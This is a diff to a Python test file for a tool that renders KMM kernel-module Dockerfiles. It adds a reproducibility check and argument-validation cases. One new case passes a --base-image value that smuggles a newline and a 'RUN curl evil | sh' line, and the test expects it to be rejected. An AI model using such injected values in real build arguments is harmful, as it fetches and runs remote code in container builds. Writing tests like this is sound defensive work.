@@ -210,6 +210,8 @@ def test_literal_mappings_cover_every_target_kernel() -> None:
     assert mappings[0]["containerImage"] == f"{IMAGE}:${{KERNEL_FULL_VERSION}}"
     assert mappings[2]["containerImage"] == f"{IMAGE}:6.12.117_deb12-cloud-amd64"
     assert _mapping_for(module, "6.1.0-60-cloud-amd64") is None
+    # the same project gives the same Dockerfile (a reproducible archive): KMM sees nothing new to build
+    assert KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS)).render().dockerfile == result.dockerfile
 
 
 def test_flavour_regexps_cover_every_target_kernel_and_newer_abis() -> None:
@@ -314,6 +316,7 @@ def test_a_private_key_among_the_sources_is_refused_made_in_test(tmp_path: Path)
     (["--image", "Registry.example.com/Team/Hello"], "is not an image name"),
     (["--image", IMAGE, "--namespace", "Bad_NS"], "is not a Kubernetes namespace name"),
     (["--image", IMAGE, "--prebuilt", "--flavour-regexp"], "error: --flavour-regexp:"),
+    (["--image", IMAGE, "--base-image", "debian:12\nRUN curl evil | sh"], "is not an image reference"),
     (["--image", IMAGE, "--namespace", "a-namespace-that-is-long-enough-to-overflow"], "longer than KMM's webhook takes"),
 ])
 def test_bad_arguments_are_one_line(args: list[str], message: str) -> None:
